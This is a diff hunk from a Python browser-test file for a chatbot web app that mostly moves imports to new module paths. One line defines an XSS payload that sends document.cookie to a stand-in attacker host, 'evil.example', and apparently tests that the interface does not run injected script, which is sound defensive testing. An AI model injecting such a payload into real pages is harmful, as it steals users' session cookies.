@@ -10,12 +10,12 @@ import pytest
 from flask import Flask
 from playwright.sync_api import Browser, Page, expect
 
-from chatbot.factory import close_app, create_app
-from chatbot.settings import Settings
+from chatbot.app.factory import close_app, create_app
+from chatbot.config.settings import Settings
+from tests.app.web.knowledge import added
+from tests.app.web.live import served
 from tests.fakes.openai_server import CHAT, FakeOpenAI, Reply
 from tests.test_browser import chromium, launched, watched
-from tests.web.knowledge import added
-from tests.web.live import served
 
 __all__ = ["chromium", "launched"]
 RUN = "window.pwned=1;fetch('http://evil.example/'+document.cookie)"
